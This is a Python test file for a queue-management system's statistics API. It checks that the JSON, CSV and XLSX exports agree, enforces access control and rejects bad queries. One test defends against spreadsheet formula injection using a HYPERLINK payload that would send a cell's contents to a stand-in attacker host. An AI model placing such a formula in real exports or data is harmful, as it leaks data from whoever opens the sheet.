"""The statistics through /api/v1: the JSON, the CSV and the XLSX give the same numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from hallq.present.reports import COLUMNS


def serve_two(api, clock):
    """Two tickets served at window 3; the first rated 5 (非常满意), the second 2 (不满意)."""
    api.post("/windows/3/sign-in", "clerk3")
    for minutes, rating in ((4, {"score": 5}), (9, {"score": 2, "reasons": ["服务态度"]})):
        api.post("/tickets", "device:K1", {"queue": "B"})
        clock.advance(minutes=minutes)
        for step in ("call-next", "start"):
            assert api.post(f"/windows/3/{step}", "clerk3").status_code == 200
        clock.advance(minutes=6)
        assert api.post("/windows/3/finish", "clerk3", {"outcome": "completed"}).status_code == 200
        assert api.post("/windows/3/evaluation", "device:P3", rating).status_code == 201


def test_json_csv_and_xlsx_agree(api, clock):
    serve_two(api, clock)
    summary = api.get("/stats/summary?group_by=window", "manager").get_json()
    assert (summary["issued"], summary["served"]) == (2, 2)
    assert summary["wait"] == {"mean": 390.0, "median": 390.0, "p90": 540.0, "max": 540.0}
    assert summary["handle"] == {"mean": 360.0, "median": 360.0, "p90": 360.0, "max": 360.0}
    [window] = summary["groups"]
    assert (window["window"], window["name"], window["served"]) == (3, "3号出入境窗口", 2)
    for rated in (summary["evaluation"], window["evaluation"]):
        assert (rated["served"], rated["rated"], rated["good_rate"], rated["bad_count"]) == (2, 2, 0.5, 1)
        assert (rated["bad_rate"], rated["active_rate"], rated["rectified_rate"]) == (0.5, 1.0, 0.0)
        assert rated["callback_rate"] == 0.0

    exported = api.get("/stats/export.csv?group_by=window", "manager")
    assert exported.headers["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert table[0][:5] == ["分组", "编号", "名称", "取号数", "办结数"]
    assert table[1][:5] == ["全厅", "", "", "2", "2"]
    assert table[2][:5] == ["窗口", "3", "3号出入境窗口", "2", "2"]
    assert table[0][-6:] == ["好评率", "差评数", "差评率", "主动评价率", "整改率", "回访率"]
    assert table[2][-6:] == ["0.5", "1", "0.5", "1.0", "0.0", "0.0"]

    workbook = load_workbook(io.BytesIO(api.get("/stats/export.xlsx", "manager").get_data()))
    assert workbook.sheetnames == ["全厅", "队列", "事项", "部门", "窗口", "工作人员"]
    sheet = workbook["窗口"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    for row, group in ((sheet[2], summary), (sheet[3], window)):
        values = dict(zip(header, (c.value for c in row), strict=True))
        for name, read in COLUMNS:
            assert values[name] == read(group), name
    # The CSV's numbers are the JSON's too.
    for line, group in ((table[1], summary), (table[2], window)):
        for (name, read), text in zip(COLUMNS, line[3:], strict=True):
            assert text == ("" if read(group) is None else str(read(group))), name
    # Every sheet of the workbook is the summary of its grouping, column by column.
    for sheet_name, group_by in (("全厅", None), ("队列", "queue"), ("工作人员", "staff")):
        query = f"?group_by={group_by}" if group_by else ""
        grouped = api.get(f"/stats/summary{query}", "manager").get_json()
        sheet = workbook[sheet_name]
        header = [c.value for c in sheet[1]]
        lines = list(sheet.iter_rows(min_row=2, values_only=True))
        assert len(lines) == 1 + len(grouped.get("groups") or [])
        for line, group in zip(lines, [grouped, *(grouped.get("groups") or [])], strict=True):
            values = dict(zip(header, line, strict=True))
            assert [values[name] for name, _ in COLUMNS] == [read(group) for _, read in COLUMNS]


def test_who_may_read_and_bad_queries(api):
    assert api.get("/stats/summary", "clerk3").status_code == 403
    assert api.get("/stats/summary", "device:K1").status_code == 403
    assert api.get("/stats/summary?group_by=colour", "manager").status_code == 422
    assert api.get("/stats/summary?from=2026-11-30&to=2026-11-01", "manager").status_code == 422
    assert api.get("/stats/summary?from=2026-02-30", "manager").status_code == 422
    empty = api.get("/stats/summary?from=2026-01-01&to=2026-01-31", "manager").get_json()
    assert (empty["issued"], empty["service_level"], empty["group_by"]) == (0, None, None)


def test_a_name_that_looks_like_a_formula_is_text_in_every_export(api, clock):
    trap = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    who = {"name": trap, "badge": "0016", "role": "clerk"}
    assert api.request("PUT", "/staff/clerk3", "manager", who).status_code == 200
    serve_two(api, clock)
    exported = api.get("/stats/export.csv?group_by=staff", "manager").get_data(as_text=True)
    [row] = [r for r in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if trap in "".join(r)]
    assert "'" + trap in row  # shown as text, not run
    workbook = load_workbook(io.BytesIO(api.get("/stats/export.xlsx", "manager").get_data()))
    cells = [c for row in workbook["工作人员"].iter_rows() for c in row if c.value == trap]
    assert cells and all(c.data_type == "s" for c in cells)
